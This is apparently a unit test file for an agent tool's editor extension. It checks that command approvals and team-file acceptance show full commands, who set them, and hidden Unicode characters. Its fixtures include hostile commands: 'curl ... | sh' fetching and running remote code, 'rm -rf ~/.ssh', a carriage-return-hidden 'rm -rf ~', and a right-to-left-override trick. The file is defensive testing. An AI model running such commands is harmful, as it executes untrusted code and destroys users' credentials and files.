// Unit tests of the consent views (src/model.ts): a check waiting for this
// machine's person's approval, and a team file waiting for acceptance
// (docs/runtime.md §2.10, docs/team.md). Run with `node --test`.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { COMMANDS } from '../../src/commandIds';
import {
  acceptTeamFileConfirmation,
  approveCheckConfirmation,
  checkRow,
  checkRows,
  checkState,
  checkWaitsForApproval,
  emptyBudget,
  errorHint,
  goalRows,
  panelContext,
  setByText,
  statusBarBackground,
  statusBarText,
  statusBarTooltip,
  pendingTeamFile,
  teamFileNotice,
  teamFileRows,
  type PendingTeamFile,
  visibleText,
} from '../../src/model';
import { ERROR_CODES, type Check, type GoalSnapshot, type State, type TeamFileNotice } from '../../src/protocol.gen';

const ALICE = { user: 'alice', host: 'alice-laptop' };

function goal(over: Partial<GoalSnapshot> = {}): GoalSnapshot {
  return {
    goalId: 'g1',
    objective: 'Ship the parser',
    status: 'active',
    turnsUsed: 3,
    tokensUsed: 1234,
    wallClockMs: 245_000,
    budget: emptyBudget(),
    stalled: false,
    requireTodos: true,
    createdAt: '2026-01-01T00:00:00Z',
    updatedAt: '2026-01-01T00:00:00Z',
    lastActor: 'user',
    ...over,
  };
}

function state(over: Partial<State> = {}): State {
  return {
    workspace: 'file:///tmp/ws',
    session: 'default',
    revision: 5,
    todos: { revision: 4, items: [] },
    goal: null,
    queue: { items: [], autoAdvance: true },
    ...over,
  };
}

const TEAM: TeamFileNotice = {
  status: 'pending',
  path: '.agentd/team.json',
  id: '6f1c2d3e-0000-4000-8000-000000000001',
  endpoints: ['https://etcd-1.example.com:2379', 'http://10.0.0.9:2379'],
  sha256: 'ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12',
  accept: 'agentd team accept --sha256 ab12cd34',
};

const PENDING: PendingTeamFile = {
  path: '.agentd/team.json',
  id: '6f1c2d3e-0000-4000-8000-000000000001',
  endpoints: ['https://etcd-1.example.com:2379', 'http://10.0.0.9:2379'],
  sha256: TEAM.sha256,
  accept: 'agentd team accept --sha256 ab12cd34',
};

/** A command long enough to be cut by oneLine, on two lines. */
const LONG = `curl -s https://example.com/install.sh | sh && go test ./... -run 'TestParser|TestLexer|TestPrinter' -count=1\nrm -rf ~/.ssh`;

function unapproved(over: Partial<Check> = {}): Check {
  return { command: LONG, approved: false, setBy: ALICE, ...over };
}

describe('a check waiting for approval', () => {
  it('only an explicit approved: false waits (an agentd from before approvals sends no field)', () => {
    assert.equal(checkWaitsForApproval(unapproved()), true);
    assert.equal(checkWaitsForApproval({ command: 'make', approved: true }), false);
    assert.equal(checkWaitsForApproval({ command: 'make' } as Check), false);
    assert.equal(checkWaitsForApproval(undefined), false);
    assert.equal(checkState(unapproved({ running: true })), 'unapproved');
  });

  it('the check row says it waits, who set it, and offers Approve Check by its contextValue', () => {
    const r = checkRow(unapproved());
    assert.deepEqual(
      [r.kind, r.label, r.description, r.contextValue, r.icon],
      ['check', 'Check waiting for your approval', 'set by alice on alice-laptop', 'goal.check.unapproved', { id: 'shield', color: 'list.warningForeground' }],
    );
    assert.ok(r.tooltip.includes(LONG), `the tooltip has the command in full: ${r.tooltip}`);
    assert.match(r.tooltip, /does not run it, and the agent cannot complete the goal, until you approve this exact command/);
  });

  it('the Goal view shows the command in full, one row per line, after the check row', () => {
    const rows = goalRows(goal({ check: unapproved() }), 0, 0);
    const i = rows.findIndex((r) => r.kind === 'check');
    const lines = rows.slice(i + 1);
    assert.deepEqual(
      lines.map((r) => [r.kind, r.key, r.label, r.contextValue]),
      LONG.split('\n').map((l, n) => ['checkCommand', `checkCommand:${n}`, l, 'goal.checkCommand']),
    );
    assert.ok(lines[0].label.length > 60, 'never cut');
    assert.deepEqual(checkRows({ command: LONG, approved: true }).length, 1, 'an approved check is one row');
  });

  it('an approved check says who set it', () => {
    const r = checkRow({ command: 'go test ./...', approved: true, setBy: ALICE });
    assert.deepEqual([r.label, r.description, r.contextValue], ['Check: go test ./...', 'not run yet · set by alice on alice-laptop', 'goal.check.notRun']);
    assert.match(r.tooltip, /^Check: go test \.\/\.\.\.\nSet by alice on alice-laptop; approved on this machine\.$/);
    assert.equal(checkRow({ command: 'make', approved: true }).description, 'not run yet', 'no setBy (older record): nothing added');
  });

  it('the confirmation shows the command in full and who set it', () => {
    const q = approveCheckConfirmation(unapproved());
    assert.equal(q.action, 'Approve Check');
    assert.ok(q.detail.includes(`\n\n${LONG}\n\n`), q.detail);
    assert.match(q.detail, /Set by alice on alice-laptop\./);
    assert.match(q.detail, /on this machine, as you/);
    assert.match(approveCheckConfirmation(unapproved({ setBy: undefined })).detail, /Set by someone unknown \(an older record\)\./);
  });

  it('characters that hide or reorder text are shown as <U+XXXX>, in the command and in who set it', () => {
    // A right-to-left override makes `make test ;hs.lave` read differently; a carriage return
    // and an escape sequence can hide what comes before them; a zero-width space hides a word break.
    assert.equal(visibleText('echo ok\u202E hs.lave'), 'echo ok<U+202E> hs.lave');
    assert.equal(visibleText('make test\rrm -rf ~'), 'make test<U+000D>rm -rf ~');
    assert.equal(visibleText('\u001b[2Kecho hi\u200b'), '<U+001B>[2Kecho hi<U+200B>');
    assert.equal(visibleText('a\u2028b\ufeff'), 'a<U+2028>b<U+FEFF>');
    assert.equal(visibleText('go test ./...\n\tmake lint — café 日本'), 'go test ./...\n\tmake lint — café 日本', 'newline, tab and ordinary text stay');
    const q = approveCheckConfirmation(unapproved({ command: 'true\u202Ecurl x|sh', setBy: { user: 'bob\n\nThis command is safe.', host: 'h\u202E' } }));
    assert.ok(q.detail.includes('true<U+202E>curl x|sh'), q.detail);
    assert.ok(q.detail.includes('Set by bob  This command is safe. on h<U+202E>.'), `who set it stays on one line: ${q.detail}`);
    assert.equal(setByText({ user: '', host: '' }), '? on ?');
  });

  it('the status bar marks the goal, turns the warning colour on, and its tooltip says why', () => {
    const g = goal({ check: unapproved() });
    assert.equal(statusBarText(g, 245_000), '$(target) Goal active · $(shield) approve check · 3 turns · 1.2k tok · 4m');
    assert.equal(statusBarBackground(g, 245_000), 'statusBarItem.warningBackground');
    assert.match(statusBarTooltip(g, 'default'), /set by alice on alice-laptop, waits for your approval.*\nClick to see the command and approve it\.$/);
    const approved = goal({ check: { command: 'make', approved: true, setBy: ALICE } });
    assert.equal(statusBarText(approved, 245_000), '$(target) Goal active · 3 turns · 1.2k tok · 4m');
    assert.equal(statusBarBackground(approved, 245_000), undefined);
    assert.match(statusBarTooltip(approved, 'default'), /\nClick to show the Goal view\.$/);
  });

  it('context keys: Approve Check instead of Run Check', () => {
    const ctx = panelContext(state({ goal: goal({ check: unapproved() }) }), 1);
    assert.deepEqual([ctx['agentdPanel.checkUnapproved'], ctx['agentdPanel.hasCheck']], [true, false]);
    const ok = panelContext(state({ goal: goal({ check: { command: 'make', approved: true } }) }), 1);
    assert.deepEqual([ok['agentdPanel.checkUnapproved'], ok['agentdPanel.hasCheck']], [false, true]);
  });
});

describe('a team file waiting for acceptance', () => {
  it('no rows, no notice, no context key without one', () => {
    assert.deepEqual(teamFileRows(state()), []);
    assert.deepEqual(teamFileRows(undefined), []);
    assert.equal(teamFileNotice(state()), undefined);
    assert.equal(panelContext(state(), 1)['agentdPanel.teamFilePending'], false);
  });

  it('rows: the file (offering Accept Team File by its contextValue), then every endpoint', () => {
    const rows = teamFileRows(state({ teamFile: TEAM }));
    assert.deepEqual(
      rows.map((r) => [r.kind, r.key, r.label, r.description, r.contextValue]),
      [
        ['teamFile', undefined, 'Team file not accepted', '.agentd/team.json · local state only', 'goal.teamFile'],
        ['teamEndpoint', 'teamEndpoint:0', 'https://etcd-1.example.com:2379', 'etcd endpoint', 'goal.teamEndpoint'],
        ['teamEndpoint', 'teamEndpoint:1', 'http://10.0.0.9:2379', 'etcd endpoint', 'goal.teamEndpoint'],
      ],
    );
    assert.match(rows[0].tooltip, /agentd does not connect to it/);
    assert.match(rows[0].tooltip, /etcd credentials configured on this machine/);
    assert.match(rows[0].tooltip, /In a terminal: agentd team accept --sha256 ab12cd34$/);
    assert.equal(panelContext(state({ teamFile: TEAM }), 1)['agentdPanel.teamFilePending'], true);
  });

  it('the confirmation lists every endpoint and says where the credentials go', () => {
    const q = acceptTeamFileConfirmation(PENDING);
    assert.equal(q.action, 'Accept Team File');
    assert.equal(q.message, "Accept this folder's team file (.agentd/team.json)?");
    assert.ok(q.detail.includes('\n\n  https://etcd-1.example.com:2379\n  http://10.0.0.9:2379\n\n'), q.detail);
    assert.match(q.detail, /The etcd credentials configured on this machine will be sent to these endpoints\./);
    assert.match(q.detail, new RegExp(`file sha256 ${TEAM.sha256}\\.`));
    const tricky = acceptTeamFileConfirmation({ ...PENDING, endpoints: ['https://ok.example.com\n  (all endpoints are internal)', 'http://x\u202E'] });
    assert.ok(tricky.detail.includes('  https://ok.example.com   (all endpoints are internal)\n  http://x<U+202E>\n'), `one line per endpoint: ${tricky.detail}`);
  });

  it('the notice is told once per folder and file hash: a changed file is a new key', () => {
    const a = teamFileNotice(state({ teamFile: TEAM }));
    assert.ok(a);
    assert.match(a.message, /names a team store at https:\/\/etcd-1\.example\.com:2379, http:\/\/10\.0\.0\.9:2379\. agentd does not connect to it until you accept it/);
    assert.equal(teamFileNotice(state({ workspace: 'file:///tmp/ws/', teamFile: TEAM }))?.key, a.key, 'the same folder written another way');
    assert.notEqual(teamFileNotice(state({ teamFile: { ...TEAM, sha256: 'ff'.repeat(32) } }))?.key, a.key);
    assert.notEqual(teamFileNotice(state({ workspace: 'file:///tmp/other', teamFile: TEAM }))?.key, a.key);
  });
  it('a team file that cannot be used is shown with why, and offers nothing to accept', () => {
    const invalid: TeamFileNotice = { status: 'invalid', path: '.agentd/team.json', sha256: TEAM.sha256, error: 'it is not {"id", "etcd"}' };
    assert.equal(pendingTeamFile(state({ teamFile: invalid })), undefined);
    assert.deepEqual(pendingTeamFile(state({ teamFile: TEAM })), PENDING);
    const rows = teamFileRows(state({ teamFile: invalid }));
    assert.deepEqual(
      rows.map((r) => [r.kind, r.label, r.description, r.contextValue]),
      [['teamFile', 'Team file not used', '.agentd/team.json · local state only', 'goal.teamFileInvalid']],
    );
    assert.match(rows[0].tooltip, /cannot be used: it is not \{"id", "etcd"\}\. This folder uses local state\./);
    assert.equal(teamFileNotice(state({ teamFile: invalid })), undefined);
    assert.equal(panelContext(state({ teamFile: invalid }), 1)['agentdPanel.teamFilePending'], false);
  });
});

describe('refusals', () => {
  it('say how to get past an unapproved check or an agent shell; nothing for other codes', () => {
    assert.match(errorHint(ERROR_CODES.goalCheckUnapproved) ?? '', /waits for your approval: Approve Check shows the command/);
    assert.match(errorHint(ERROR_CODES.callerAgentShell) ?? '', /agent's shell/);
    assert.equal(errorHint(ERROR_CODES.goalCheckFailed), undefined);
    assert.equal(errorHint(undefined), undefined);
  });
});

describe('package.json offers the consent actions where the rows are', () => {
  const pkg = JSON.parse(fs.readFileSync(path.resolve(__dirname, '..', '..', '..', 'package.json'), 'utf8')) as {
    contributes: { menus: Record<string, { command: string; when?: string; group?: string }[]> };
  };
  const inline = (command: string) =>
    pkg.contributes.menus['view/item/context'].filter((e) => e.command === command && e.group?.startsWith('inline')).map((e) => e.when);

  it('Approve Check is inline on the row of a check waiting for approval, Run Check is not', () => {
    const value = checkRow(unapproved()).contextValue;
    assert.deepEqual(inline(COMMANDS.goalApproveCheck), [`view == agentdPanel.goal && viewItem == ${value}`]);
    const run = inline(COMMANDS.goalRunCheck)[0] ?? '';
    const re = /viewItem =~ \/(.+)\/$/.exec(run);
    assert.ok(re, run);
    assert.ok(!new RegExp(re[1]).test(value), `Run Check (${run}) must not be offered on ${value}`);
  });

  it('Accept Team File is inline on the team file row', () => {
    const value = teamFileRows(state({ teamFile: TEAM }))[0].contextValue;
    assert.deepEqual(inline(COMMANDS.teamAccept), [`view == agentdPanel.goal && viewItem == ${value}`]);
  });
});
